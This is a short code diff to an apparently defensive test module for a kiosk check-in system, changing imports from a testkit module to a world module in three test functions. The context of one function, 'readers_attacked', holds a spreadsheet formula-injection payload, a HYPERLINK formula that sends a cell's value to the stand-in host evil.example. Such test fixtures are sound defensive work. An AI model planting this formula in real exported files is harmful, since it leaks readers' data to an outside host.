@@ -171,7 +171,7 @@ def committee_login(w: World) -> list[Row]:
     than two share holders."""
     alice, bob = _member_files(w)
     data = w.server.data_dir
-    from workbench.testkit import TEST_CASE
+    from workbench.world import TEST_CASE
 
     for pid in (b"\x61" * 16, b"\x62" * 16):  # check-ins in the case's window, uploaded
         w.store.record(w.decide(w.pass_text(pid)), now=time.time(), clock_synced=True)
@@ -239,7 +239,7 @@ def readers_attacked(w: World) -> list[Row]:
     from kiosk.core.keys import raw_public
     from kiosk.store.checkins import CheckinStore
     from kiosk.uploader import Uploader
-    from workbench.testkit import TEST_CASE, health_summary
+    from workbench.world import TEST_CASE, health_summary
 
     alice, bob = _member_files(w)
     formula = '=HYPERLINK("http://evil.example/?"&B2,"open")'
@@ -372,7 +372,7 @@ def low_ones(w: World) -> list[Row]:
     from kiosk.core import protocol
     from kiosk.core.keys import raw_public
     from workbench.localserver import LocalServer
-    from workbench.testkit import health_summary
+    from workbench.world import health_summary
 
     rows = []
     alice, bob = _member_files(w)
